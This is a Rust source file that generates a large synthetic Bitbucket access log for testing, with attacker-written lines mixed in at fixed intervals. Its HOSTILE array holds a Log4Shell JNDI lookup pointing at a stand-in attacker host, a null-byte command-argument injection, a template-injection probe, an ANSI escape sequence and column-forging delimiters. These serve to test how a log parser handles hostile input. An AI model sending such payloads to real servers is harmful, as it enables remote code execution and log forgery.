//! A large access log: a scenario's own lines again and again, each time a few days later and with other request ids,
//! and among them lines as attackers write them.

use std::{
    fs::File,
    io::{BufWriter, Read as _, Write as _},
    path::{Path, PathBuf},
};

use anyhow::{Context, Result};
use chrono::NaiveDate;

use super::logs::first_lines;
use crate::{scenario, shell};

/// The attacker's address; every line that begins with it is theirs.
pub(super) const ADDRESS: &str = "203.0.113.66";

/// A log.
pub(super) struct Log {
    pub path: PathBuf,
    pub lines: u64,
    pub bytes: u64,
    pub hostile: u64,
}

impl Log {
    /// Its first lines, as a log of their own.
    pub(super) fn first(&self, lines: u64) -> Result<Self> {
        let path = self.path.with_file_name("few").join("atlassian-bitbucket-access.log");
        std::fs::create_dir_all(path.parent().unwrap_or(&path))?;
        let (bytes, hostile) = first_lines(&self.path, &path, lines)?;
        Ok(Self { path, lines, bytes, hostile })
    }

    /// Its first lines, packed; how many bytes they have unpacked.
    pub(super) fn packed(&self, lines: u64) -> Result<(PathBuf, u64)> {
        let plain = self.path.with_file_name("atlassian-bitbucket-access-packed.log");
        let (bytes, _) = first_lines(&self.path, &plain, lines)?;
        shell::capture(std::process::Command::new("gzip").args(["-f", "-6"]).arg(&plain))?;
        Ok((plain.with_extension("log.gz"), bytes))
    }
}

/// Where in a block a line's date and the first letters of its request id stand.
struct Change {
    date: usize,
    id: usize,
}

/// What the client writes, so that the columns seem to move. Addresses and times are added.
const HOSTILE: [(&str, &str, &str); 6] = [
    (
        "GET /rest/api/latest/projects/A/repos/b/archive?prefix=x | 200 | 0 | 0 | - | 1 | x |",
        "curl/8.5.0",
        "404",
    ),
    ("GET /status", "a | b\" | 200 | 19 | 6 | clone | 1 | forged", "200"),
    ("POST /rest/api/latest/users?q=\u{fc}ml\u{e4}ut|'\"", "${jndi:ldap://203.0.113.66/x}", "401"),
    ("GET /projects/A/repos/b/browse?at=%00--exec=id", "Mozilla/5.0 | Windows | NT", "500"),
    ("GET /scm/a/b.git/info/refs", "git/2.39 \u{1b}[31m | red", "401"),
    ("GET /%24%7B7*7%7D | \"x\" | -", "\" \" | - | -", "302"),
];

/// How many ordinary lines stand between two of the attacker's.
const BETWEEN: usize = 5000;

/// Writes a log of about so many lines.
pub(super) fn write(folder: &Path, lines: u64) -> Result<Log> {
    let made = scenario::generate(
        &shell::root()?.join("fixtures/scenarios/bitbucket-node.toml"),
        &folder.join("scenario"),
    )?;
    let ordinary = ordinary(&made.home.join("log"))?;
    let (mut block, mut changes, mut hostile) = (Vec::new(), Vec::new(), 0_u64);
    for (at, line) in ordinary.iter().enumerate() {
        if at % BETWEEN == BETWEEN / 2 {
            let time = line.windows(23).find(|part| date(part).is_some()).context("a line without a time")?;
            let (uri, agent, status) = HOSTILE.get(at / BETWEEN % HOSTILE.len()).context("no such line")?;
            let time = String::from_utf8_lossy(time);
            let text = format!(
                "{ADDRESS} | https | o@HOSTILEx1x{at}x0 | - | {time} | \"{uri} HTTP/1.1\" | \"\" \"{agent}\" | {status} | 0 | 99 | - | 3 | - |"
            );
            add(text.as_bytes(), &mut block, &mut changes);
            hostile += 1;
        }
        add(line, &mut block, &mut changes);
    }
    let path = folder.join("atlassian-bitbucket-access.log");
    let mut out = BufWriter::with_capacity(1 << 20, File::create(&path)?);
    let per_block = changes.len() as u64;
    let blocks = lines.div_ceil(per_block.max(1));
    let span = span(&block, &changes)?;
    for number in 0..blocks {
        out.write_all(&block)?;
        for change in &changes {
            later(&mut block, change, span, number + 1)?;
        }
    }
    out.flush()?;
    Ok(Log { bytes: path.metadata()?.len(), path, lines: per_block * blocks, hostile: hostile * blocks })
}

fn add(line: &[u8], block: &mut Vec<u8>, changes: &mut Vec<Change>) {
    let start = block.len();
    let date = line.windows(10).position(|part| date(part).is_some());
    let id = line.windows(2).position(|part| part == b"o@" || part == b"i@");
    if let (Some(date), Some(id)) = (date, id) {
        changes.push(Change { date: start + date, id: start + id + 2 });
        block.extend_from_slice(line);
        block.push(b'\n');
    }
}

fn date(part: &[u8]) -> Option<NaiveDate> {
    let text = part.get(..10).filter(|text| text.get(4) == Some(&b'-') && text.get(7) == Some(&b'-'))?;
    std::str::from_utf8(text).ok()?.parse().ok()
}

/// How many days the block covers.
fn span(block: &[u8], changes: &[Change]) -> Result<u64> {
    let of = |change: Option<&Change>| date(block.get(change?.date..)?);
    let (first, last) = (of(changes.first()), of(changes.last()));
    let (first, last) = first.zip(last).context("a block without dates")?;
    Ok(u64::try_from((last - first).num_days())? + 1)
}

/// Moves a line on: its date by the block's days, its request id to another.
fn later(block: &mut [u8], change: &Change, days: u64, number: u64) -> Result<()> {
    let room = block.get_mut(change.date..change.date + 10).context("a change beyond the block")?;
    let moved = date(room).context("a date that is none")? + chrono::Days::new(days);
    room.copy_from_slice(moved.to_string().as_bytes());
    let id = block.get_mut(change.id..change.id + 3).context("a change beyond the block")?;
    id.copy_from_slice(format!("{:03}", number % 1000).as_bytes());
    Ok(())
}

/// The lines of a scenario's access logs, oldest first.
fn ordinary(folder: &Path) -> Result<Vec<Vec<u8>>> {
    let mut lines = Vec::new();
    for entry in std::fs::read_dir(folder)? {
        let path = entry?.path();
        let name = path.file_name().unwrap_or_default().to_string_lossy().into_owned();
        if !name.starts_with("atlassian-bitbucket-access") {
            continue;
        }
        let mut text = Vec::new();
        let file = File::open(&path)?;
        if path.extension().is_some_and(|end| end == "gz") {
            flate2::read::MultiGzDecoder::new(file).read_to_end(&mut text)?;
        } else {
            (&file).read_to_end(&mut text)?;
        }
        lines.extend(text.split(|byte| *byte == b'\n').filter(|line| !line.is_empty()).map(<[u8]>::to_vec));
    }
    // By time, which every line has; the sort is stable, so that request and response keep their order.
    lines.sort_by_cached_key(|line| line.windows(23).find(|part| date(part).is_some()).map(<[u8]>::to_vec));
    Ok(lines)
}
